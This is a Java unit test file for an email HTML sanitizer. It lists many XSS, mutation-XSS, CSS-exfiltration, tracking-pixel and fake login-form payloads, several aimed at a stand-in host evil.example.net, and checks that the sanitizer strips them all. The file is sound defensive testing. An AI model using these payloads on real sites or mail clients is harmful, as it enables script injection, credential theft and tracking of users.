package org.postroom.web.mailview;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.postroom.mail.Attachment;
import org.postroom.mail.Bytes;
import org.postroom.mail.IncomingMail;
import org.postroom.testing.CpuTime;
import org.postroom.web.mailview.SafeMail.Pictures;

class SafeMailTest {
    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13};

    private static SafeMail safe(String html, Pictures pictures, Attachment... files) {
        return SafeMail.of(new IncomingMail.Content("", Optional.of(html), List.of(files), Optional.empty()), pictures);
    }

    private static String safe(String html) {
        return safe(html, Pictures.OWN).html();
    }

    private static Attachment picture(String contentId, byte[] content) {
        return new Attachment("p", "image/png", true, Optional.of(contentId), Bytes.wrap(content));
    }

    /** Whatever these try, nothing remains that acts, asks, moves or reaches out. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                // Script
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example.net/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=`x`onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)//>",
                "<body onload=alert(1)>x</body>",
                "<div onmouseover=alert(1) onclick='alert(2)'>x</div>",
                "<p onpointerenter=alert(1)>x</p>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='\u0001javascript:alert(1)'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='//evil.example.net/x'>x</a>",
                "<a href='/logout'>x</a>",
                "<a href='#top'>x</a>",
                "<math><mtext><script>alert(1)</script></mtext></math>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mi></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<template><script>alert(1)</script></template>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<applet code=x></applet>",
                "<xss style='x'>x</xss>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<textarea><script>alert(1)</script></textarea>",
                "<title><script>alert(1)</script></title>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                // Things that ask
                "<form action=https://evil.example.net/><input name=password type=password><button>Log in</button></form>",
                "<input type=text autofocus onfocus=alert(1)>",
                "<label for=answer>Click</label>",
                "<select><option>x</option></select>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<details ontoggle=alert(1) open>x</details>",
                "<dialog open>x</dialog>",
                "<video src=https://evil.example.net/x poster=https://evil.example.net/y></video>",
                "<audio src=https://evil.example.net/x autoplay></audio>",
                // Things that change the page
                "<base href=https://evil.example.net/>",
                "<meta http-equiv=refresh content='0;url=https://evil.example.net/'>",
                "<link rel=stylesheet href=https://evil.example.net/x.css>",
                "<link rel=prefetch href=https://evil.example.net/x>",
                "<style>body{background:url(https://evil.example.net/)}</style>",
                "<style>@import 'https://evil.example.net/x.css';</style>",
                "<div id=main class='app head' name=x>x</div>",
                "<frameset><frame src=https://evil.example.net/></frameset>",
                "<marquee>x</marquee>",
                // CSS
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
                "<div style='background:url(https://evil.example.net/x)'>x</div>",
                "<div style='background-image:url(\"https://evil.example.net/x\")'>x</div>",
                "<div style='background-color:red;background-image:u\\72l(https://evil.example.net/)'>x</div>",
                "<div style='list-style-image:url(https://evil.example.net/)'>x</div>",
                "<div style='content:url(https://evil.example.net/)'>x</div>",
                "<div style='cursor:url(https://evil.example.net/),auto'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='behavior:url(x.htc)'>x</div>",
                "<div style='-moz-binding:url(https://evil.example.net/x.xml#x)'>x</div>",
                "<div style='color:red;}body{display:none'>x</div>",
                "<div style='opacity:0;transform:scale(100);float:left;filter:blur(9px);animation:x 1s'>x</div>",
                "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
                "<div style='@import url(https://evil.example.net/)'>x</div>",
                "<table background=https://evil.example.net/x><tr><td background=https://evil.example.net/y>x</table>",
                // Pictures that report
                "<img src=https://evil.example.net/pixel.gif width=1 height=1>",
                "<img srcset='https://evil.example.net/a 1x' src=//evil.example.net/b>",
                "<picture><source srcset=https://evil.example.net/a><img src=https://evil.example.net/b></picture>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<img lowsrc=https://evil.example.net/a dynsrc=https://evil.example.net/b usemap=#m>",
                "<input type=image src=https://evil.example.net/x>",
                "<a href='https://ok.example.org' ping='https://evil.example.net/'>x</a>",
                "<blockquote cite='https://evil.example.net/'>x</blockquote>"
            })
    void nothingOfThisRemains(String html) {
        String safe = safe(html).replace("&lt;", "(").replace("&gt;", ")");
        assertThat(tags(safe))
                .doesNotContainPattern("(?i)\\son[a-z]+\\s*=")
                .doesNotContainPattern("(?i)javascript:|vbscript:|data:|file:|evil\\.example\\.net")
                .doesNotContainPattern(
                        "(?i)<(?:script|style|form|input|label|button|select|textarea|option|details|dialog"
                                + "|svg|math|object|embed|applet|iframe|frame|frameset|base|meta|link|video|audio|source|picture"
                                + "|template|noscript|marquee|xss|title|xmp|plaintext|body|html|head)\\b")
                .doesNotContainPattern("(?i)\\s(?:id|class|name|srcset|ping|cite|background|usemap|for|action)\\s*=")
                .doesNotContainPattern(
                        "(?i)position|z-index|url\\(|expression|import|behavior|binding|opacity|transform|animation|float|content:|cursor|filter|display")
                .doesNotContain("href=\"#")
                .doesNotContain("href=\"/");
    }

    /** The tags of HTML alone: what stands between them is mere text. */
    private static String tags(String html) {
        StringBuilder tags = new StringBuilder();
        java.util.regex.Pattern.compile("<[^>]*>").matcher(html).results().forEach(tag -> tags.append(tag.group()));
        return tags.toString();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "<b>bold</b> <i>x</i>|<b>bold</b> <i>x</i>",
                "<p style=\"color: red\">x</p>|<p style=\"color:red\">x</p>",
                "<td>x</td>|x",
                "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>|<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
                "<h1>x</h1><hr>|<h1>x</h1><hr />",
                "<ul><li>x</li></ul>|<ul><li>x</li></ul>",
                "<font color=\"#ff0000\" size=\"5\">x</font>|<font color=\"#ff0000\" size=\"5\">x</font>",
                "a<div style=\"display:none\">preheader</div>b|ab",
                "<div hidden>secret</div>x|x"
            })
    void whatIsHarmlessStays(String html, String safe) {
        assertThat(safe(html)).isEqualTo(safe);
    }

    @Test
    void linksOpenElsewhereAndTellNothing() {
        assertThat(safe("<a href='https://example.org/a?b=1&c=2' target=_top>x</a>"))
                .contains("href=\"https://example.org/a?b&#61;1&amp;c&#61;2\"")
                .contains("target=\"_blank\"")
                .doesNotContain("_top")
                .contains("noopener")
                .contains("noreferrer");
        assertThat(safe("<a href='mailto:a@example.org'>x</a>")).contains("mailto:");
    }

    @Test
    void picturesOfTheMailStandInIt() {
        SafeMail mail = safe("<img src='cid:a%40b' alt=x><img src=cid:none alt=y>", Pictures.OWN, picture("a@b", PNG));

        assertThat(mail.html()).contains("data:image/png;base64,").contains("alt=\"y\"");
        assertThat(mail.remotePictures()).isFalse();
    }

    /** RFC 2557: pages that were sent whole name their pictures by address; some programs by file name. */
    @Test
    void picturesAreFoundByTheirLocationsAndNamesToo() {
        String location = "https://example.org/page/logo.png";
        assertThat(safe("<img src='" + location + "' alt=x>", Pictures.OWN, picture(location, PNG))
                        .html())
                .contains("data:image/png;base64,");
        SafeMail relative = safe("<img src='logo.png' alt=x>", Pictures.OWN, picture(location, PNG));
        assertThat(relative.html()).contains("data:image/png;base64,");
        assertThat(relative.remotePictures()).isFalse();
        assertThat(safe("<img src='cid:P' alt=x>", Pictures.OWN, picture("other", PNG))
                        .html())
                .contains("data:image/png;base64,");
        assertThat(safe("<img src='' alt=x><img src='/' alt=y>", Pictures.OWN, picture(location + "/", PNG))
                        .html())
                .doesNotContain("data:");
    }

    @Test
    void aPictureIsWhatItsBytesSay() {
        byte[] svg = "<svg onload=alert(1)></svg>".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        assertThat(safe("<img src=cid:a alt=x>", Pictures.OWN, picture("a", svg))
                        .html())
                .doesNotContain("data:");
        String data = Base64.getEncoder().encodeToString(PNG);
        assertThat(safe("<img src='data:image/jpeg;base64," + data + "'>")).contains("data:image/png;base64,");
    }

    @Test
    void picturesTooLargeTogetherAreLeftOut() {
        byte[] large = java.util.Arrays.copyOf(PNG, 3_000_000);
        SafeMail mail = safe(
                "<img src=cid:a alt=x><img src=cid:b alt=y>", Pictures.OWN, picture("a", large), picture("b", large));

        assertThat(mail.picturesLeftOut()).isTrue();
        assertThat(mail.html().split("data:image", -1)).hasSize(2);
    }

    @Test
    void remotePicturesAreNoticedAndOnlyShownWhenAskedFor() {
        String html = "<img src='http://example.net/a.gif' alt=x>";
        assertThat(safe(html, Pictures.OWN).remotePictures()).isTrue();
        assertThat(safe(html, Pictures.OWN).html()).doesNotContain("example.net");
        assertThat(safe(html, Pictures.REMOTE).html()).contains("src=\"https://example.net/a.gif\"");
        assertThat(safe("<img src='ftp://example.net/a.gif' alt=x>", Pictures.REMOTE)
                        .html())
                .doesNotContain("example.net");
    }

    static Stream<String> monsters() {
        return Stream.of(
                "<div>".repeat(200_000),
                "<b>".repeat(300_000) + "x",
                IntStream.range(0, 3000)
                                .mapToObj(i -> "<font color=c" + i + ">")
                                .reduce("", String::concat)
                        + "<p>x".repeat(30_000),
                "<table><tr><td>".repeat(60_000),
                "<a href=x>".repeat(90_000),
                "<p style='color:" + "(".repeat(900_000) + "'>x",
                "<" + "a".repeat(990_000),
                "<p " + "a=b ".repeat(240_000) + ">x",
                "&".repeat(990_000),
                "<!--".repeat(240_000),
                "<img src=\"data:image/png;base64," + "A".repeat(900_000) + "\">",
                "x".repeat(5_000_000));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("monsters")
    void monstersAreDealtWithInBoundedTimeAndSpace(String html) {
        Duration taken = CpuTime.of(
                () -> assertThat(safe(html, Pictures.OWN).html().length()).isLessThan(8_000_000));
        assertThat(taken).isLessThan(Duration.ofSeconds(10));
    }

    @Test
    void saysWhenSomethingIsLeftOut() {
        assertThat(safe("x".repeat(1_000_001), Pictures.OWN).cut()).isTrue();
        assertThat(safe("<p>x</p>", Pictures.OWN).cut()).isFalse();
    }
}
